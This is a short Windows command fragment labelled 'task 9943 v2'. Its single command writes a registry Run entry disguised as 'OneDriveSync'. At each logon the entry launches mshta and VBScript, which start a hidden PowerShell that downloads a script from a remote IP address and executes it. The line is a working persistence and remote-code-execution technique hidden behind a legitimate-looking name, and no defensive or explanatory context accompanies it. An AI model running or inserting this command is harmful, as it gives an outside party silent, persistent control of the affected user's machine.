REM task 9943 v2
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v OneDriveSync /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://203.0.113.17/inv.ps1|iex\"\", 0:close\")" /f
